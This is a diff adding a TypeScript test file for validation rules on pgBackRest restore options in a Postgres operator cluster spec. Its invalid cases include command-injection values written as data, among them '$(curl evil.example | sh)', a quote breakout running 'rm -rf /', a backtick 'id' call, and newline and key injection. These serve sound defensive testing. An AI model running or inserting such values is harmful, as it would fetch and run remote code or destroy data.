@@ -1,0 +1,69 @@
+import { ruleTester } from "../../../helpers/rule-tester.ts";
+import { rule as restoreRepoRequired } from "../../../../src/operators/cpo/rules/restore-repo-required.ts";
+import { rule as restoreOptionsSafe } from "../../../../src/operators/cpo/rules/restore-options-safe.ts";
+import { backup, cluster, good, pvcRepo } from "./fixtures.ts";
+
+const RESTORE = "spec.backup.pgbackrest.restore";
+const OPTS = `${RESTORE}.options`;
+
+function withRestore(restore: unknown, global?: unknown) {
+  return cluster(backup([pvcRepo(1)], global, { restore }));
+}
+
+ruleTester(restoreRepoRequired, {
+  valid: [
+    { resource: good() },
+    { name: "tutorial restore", resource: withRestore({ id: "1", repo: "repo1", options: { type: "immediate", set: "20231215-111802F" } }) },
+    { name: "no id: nothing triggered", resource: withRestore({ options: { type: "immediate" } }) },
+    { name: "restore a string", resource: withRestore("yes") },
+  ],
+  invalid: [
+    {
+      name: "docs PITR manifest without repo",
+      resource: withRestore({ id: "1", options: { type: "time", set: "20240515-164100F", target: "2024-05-16 07:46:05.506817+00" } }),
+      problems: [{ path: RESTORE, message: "panics" }],
+    },
+    { name: "docs fragment repo '1'", resource: withRestore({ id: "1", repo: "1" }), problems: [{ path: `${RESTORE}.repo`, message: "repo: repo1" }] },
+    { name: "empty repo", resource: withRestore({ id: "2", repo: "" }), problems: [{ path: `${RESTORE}.repo` }] },
+    { name: "repo a number", resource: withRestore({ id: "2", repo: 1 }), problems: [{ message: "repo1..repo4" }] },
+    { name: "repo not configured", resource: withRestore({ id: "2", repo: "repo2" }), problems: [{ message: "not one of the repos (repo1)" }] },
+  ],
+});
+
+ruleTester(restoreOptionsSafe, {
+  valid: [
+    { resource: good() },
+    { name: "PITR", resource: withRestore({ id: "2", repo: "repo1", options: { type: "time", target: "2024-05-16 07:46:05.506817+00", set: "20240515-164100F" } }) },
+    { name: "lsn", resource: withRestore({ id: "2", repo: "repo1", options: { type: "lsn", target: "0/3000060", "target-exclusive": "y" } }) },
+    { name: "extra allowed option", resource: withRestore({ id: "2", repo: "repo1", options: { "repo1-path": "/x/repo1/" } }), params: { extraAllowedOptions: ["repo1-path"] } },
+    { name: "global single-line", resource: withRestore(undefined, { "repo1-retention-full": "7", "repo1-s3-uri-style": "path" }) },
+  ],
+  invalid: [
+    {
+      name: "chart example target-time",
+      resource: withRestore({ id: "2", repo: "repo1", options: { "target-time": "2024-05-16 07:46:05+00" } }),
+      problems: [{ path: `${OPTS}.target-time`, message: "type: time" }],
+    },
+    { name: "operator-added delta", resource: withRestore({ id: "2", repo: "repo1", options: { delta: "y" } }), problems: [{ path: `${OPTS}.delta`, message: "set by the operator" }] },
+    { name: "repo in options", resource: withRestore({ id: "2", repo: "repo1", options: { repo: "2" } }), problems: [{ message: "restore.repo instead" }] },
+    {
+      name: "command substitution",
+      resource: withRestore({ id: "2", repo: "repo1", options: { set: "$(curl evil.example | sh)" } }),
+      problems: [{ path: `${OPTS}.set`, message: "'$'" }],
+    },
+    { name: "quote breakout", resource: withRestore({ id: "2", repo: "repo1", options: { target: 'x" ; rm -rf / ; "', type: "name" } }), problems: [{ message: `'"'` }] },
+    { name: "backtick", resource: withRestore({ id: "2", repo: "repo1", options: { set: "`id`" } }), problems: [{ message: "'`'" }] },
+    { name: "newline", resource: withRestore({ id: "2", repo: "repo1", options: { set: "a\nb" } }), problems: [{ message: "a newline" }] },
+    { name: "key injection", resource: withRestore({ id: "2", repo: "repo1", options: { "type=x;id;": "y" } }), problems: [{ message: "unquoted" }] },
+    { name: "time without target", resource: withRestore({ id: "2", repo: "repo1", options: { type: "time" } }), problems: [{ path: OPTS, message: "needs a target" }] },
+    { name: "unknown type", resource: withRestore({ id: "2", repo: "repo1", options: { type: "pitr" } }), problems: [{ path: `${OPTS}.type` }] },
+    { name: "number value", resource: withRestore({ id: "2", repo: "repo1", options: { "process-max": 4 } }), problems: [{ message: "Quote it" }] },
+    { name: "options a list", resource: withRestore({ id: "2", repo: "repo1", options: ["type=time"] }), problems: [{ path: OPTS }] },
+    {
+      name: "global value with newline",
+      resource: withRestore(undefined, { "repo1-retention-full": "7\nrepo1-path=/elsewhere" }),
+      problems: [{ path: "spec.backup.pgbackrest.global.repo1-retention-full", message: "line break" }],
+    },
+    { name: "global key with =", resource: withRestore(undefined, { "repo1-path = /x\n[db]": "y" }), problems: [{ message: "not a pgBackRest option name" }] },
+  ],
+});
